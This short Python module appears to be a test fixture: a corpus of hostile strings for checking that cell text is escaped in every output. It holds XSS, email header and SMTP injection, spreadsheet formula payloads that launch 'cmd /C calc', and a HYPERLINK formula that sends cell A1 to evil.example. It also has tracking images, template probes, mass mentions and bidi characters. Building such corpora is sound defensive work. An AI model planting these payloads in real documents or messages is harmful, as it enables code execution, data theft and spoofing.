"""What a cell could hold to be something else, wherever its text goes."""

from __future__ import annotations

#: name → text. One list for every output, so that what one forgets another does not.
CORPUS = {
    "header": "行\r\nBcc: all@example.jp",
    "smtp command": "行\nX-Header: 1\n\n.\r\nMAIL FROM:<a@example.jp>",
    "script": "<script>alert(1)</script>",
    "attribute": "\"><img src=x onerror=alert(1)>'",
    "end of page": "</main></body></html><h1>見出し</h1>",
    "formula": "=cmd|' /C calc'!A0",
    "formula by plus": "+1+cmd|'/C calc'!A0",
    "formula by at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formula by tab": '\t=HYPERLINK("http://evil.example/?"&A1,"開く")',
    "formula, wide": "＝1+1",
    "mention": "@everyone @channel <!channel> <!everyone> <!here> <@U123> <!subteam^S1>",
    "mention in teams": '<at>全員</at> <at id="0">team</at>',
    "mention in line works": '<m userId="all">',
    "markdown": "[開く](javascript:alert(1)) `code` **太字** | 表 | ~~x~~ _x_ # h",
    "image": "![x](http://evil.example/track.png)",
    "bare link": "http://evil.example/ www.evil.example data:text/html,x",
    "pipes": "| a | b |\n|---|---|\n| c | d |",
    "template": "{{ 7*7 }} {% raw %} {subject} {text} %(x)s ${x}",
    "card": '"}],"msteams":{"entities":[{"type":"mention"}]},"x":[{"',
    "direction": "\u202eabc\u2066 \u200f\u061c",
    "unseen": "ゼ\u200bロ\u200d幅\ufeff\u00ad",
    "control": "\x00\x1b[31m \ud800 \u2028 \u0085 \x0b",
    "escapes": "&lt;script&gt; &#x40;channel &amp;",
}
